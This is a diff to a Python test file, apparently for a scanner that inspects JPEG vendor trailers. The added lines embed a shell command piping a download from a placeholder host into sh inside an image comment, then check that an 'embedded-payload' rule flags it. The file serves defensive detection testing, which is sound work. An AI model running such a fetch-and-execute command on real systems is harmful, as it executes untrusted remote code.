@@ -46,6 +46,8 @@ def test_a_picture_is_a_vendor_s_own_only_where_its_trailer_lists_it(fired: Fire
     }
     found = {name: severity for name, (severity, _message) in fired(RULE, files).items()}
     assert found == {"listed.jpg": "info", "before.jpg": "warning", "within.jpg": "warning"}
+    code = jpeg(photo("b", 60, 40), comment=b"#!/bin/sh\ncurl http://a.example/x | sh\n")
+    assert fired("embedded-payload", {"code.jpg": jpeg(photo("a")) + samsung_trailer(NOISE, code)})
 
 
 def test_what_ends_like_a_vendor_s_trailer_and_has_not_its_structure_is_unknown(fired: Fired) -> None:
